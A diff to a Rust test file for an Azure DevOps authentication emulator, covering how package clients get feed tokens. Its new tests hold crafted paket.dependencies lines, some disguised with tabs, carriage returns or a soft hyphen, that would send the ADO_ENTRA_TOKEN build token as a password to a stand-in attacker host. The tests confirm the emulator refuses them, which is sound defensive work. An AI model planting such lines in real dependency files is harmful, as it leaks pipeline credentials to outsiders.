@@ -2,7 +2,7 @@
 
 use std::path::Path;
 
-use ado_entra_auth_emulator::agent::{Job, ScriptOutcome};
+use ado_entra_auth_emulator::agent::{Job, ScriptOutcome, TaskStep};
 use ado_entra_auth_emulator::faults::TokenFault;
 use ado_entra_auth_emulator::log::{Authorization, Held};
 use ado_entra_auth_emulator::message::Answer;
@@ -223,18 +223,59 @@ fn only_the_last_steps_provider_answers() {
 }
 
 #[test]
-fn a_password_in_the_line_is_warned_of_and_the_token_cannot_be_sent_by_one() {
+fn a_password_in_the_line_is_warned_of() {
     let emulator = emulator();
     let mut job = job(&emulator);
-    write(&job, "paket.dependencies", format!("source {FEED} username: \"me\" password: \"%OWN%\"\n"));
+    write(&job, "paket.dependencies", format!("source {FEED} username: \"me\" password: \"own\"\n"));
     let outcome = run(&emulator, &mut job, &step());
     assert!(warned(&outcome, &["Paket does not ask", "paket.dependencies, line 1"]), "{:?}", outcome.warnings);
     finish(&mut job);
+}
 
-    let mut job = crate::support::job(&emulator);
-    let sent = format!("source {FEED}\nsource https://{EVIL}/ username: \"me\" password: \"%ADO_ENTRA_TOKEN%\"\n");
-    write(&job, "paket.dependencies", sent);
-    assert_refused(&emulator, &mut job, &step(), &["paket.dependencies line 2", "ADO_ENTRA_TOKEN", EVIL]);
+/// In a plain line, and in those in which Paket would find another address than is seen first.
+#[test]
+fn a_line_that_would_send_the_token_stops_the_step() {
+    let with = "username: \"me\" password: \"%ADO_ENTRA_TOKEN%\"";
+    for (line, receiver) in [
+        (format!("source https://{EVIL}/ {with}"), EVIL),
+        (format!("source {FEED} source \"https://{EVIL}/\" {with}"), ""),
+        (format!("source\t{FEED} https://{EVIL}/ {with}"), ""),
+        (format!("// x\rsource https://{EVIL}/ {with}"), EVIL),
+        (format!("so\u{ad}urce https://{EVIL}/ {with}"), ""),
+    ] {
+        let emulator = emulator();
+        let mut job = job(&emulator);
+        // What one line may send does not count for another.
+        write(&job, "paket.dependencies", format!("source {FEED} {with}\n{line}\n"));
+        assert_refused(&emulator, &mut job, &step(), &["paket.dependencies", "ADO_ENTRA_TOKEN", receiver]);
+    }
+}
+
+/// A step's silence is not filled by what another one has set up, whichever comes first and whatever its identity.
+#[test]
+fn an_earlier_step_does_not_answer_where_a_later_one_is_silent() {
+    let emulator = emulator();
+    let mut job = job(&emulator);
+    write(&job, "a/nuget.config", config(&[("feed1", FEED)]));
+    let in_folder = |step: &TaskStep, name: &str| {
+        named(&step.clone().input("workingDirectory", name).input("tools", "nuget"), name)
+    };
+    let second = bare_step().connection("azureDevOpsServiceConnection", FABRIKAM_CONNECTION);
+    run(&emulator, &mut job, &in_folder(&step(), "a"));
+    let folder = own_folder(&job);
+    assert_eq!(ask(&mut job, &folder, &format!("-uri {FEED}")).1, 0);
+    let both = "b/ci.config";
+    write(&job, both, config(&[("feed1", FEED), ("theirs", THEIRS)]));
+    run(&emulator, &mut job, &in_folder(&second.input("organizations", "contoso"), "b"));
+    let folder = own_folder(&job);
+    let answers =
+        |job: &mut Job<'_>, folder: &str| [FEED, OWN_HOST].map(|url| ask(job, folder, &format!("-uri {url}")).1);
+    assert_eq!(answers(&mut job, &folder), [1, 0]);
+    std::fs::remove_file(job.sources().join(both)).unwrap();
+    run(&emulator, &mut job, &named(&in_folder(&step(), "a"), "c"));
+    let folder = own_folder(&job);
+    assert_eq!(answers(&mut job, &folder), [1, 0]);
+    finish(&mut job);
 }
 
 /// One of them is not permitted. NuGet would show it the other's token, since both are at one host.
@@ -247,7 +288,7 @@ fn a_file_of_two_organizations_that_nuget_exe_is_given_brings_no_token_to_the_ot
     let mut job = job(&emulator);
     write(&job, "ci.config", config(&[("feed1", FEED), ("theirs", THEIRS)]));
     let outcome = run(&emulator, &mut job, &step());
-    assert!(outcome.log.contains("a client that is given a configuration file (ci.config)"), "{}", outcome.log);
+    assert!(outcome.log.contains("credential provider is silent at pkgs.dev.azure.com"), "{}", outcome.log);
     emulator.clear_requests();
     let folder = job.sources();
     Client::NuGet.restores(&mut job, &folder, "-ConfigFile ../ci.config", &[]);
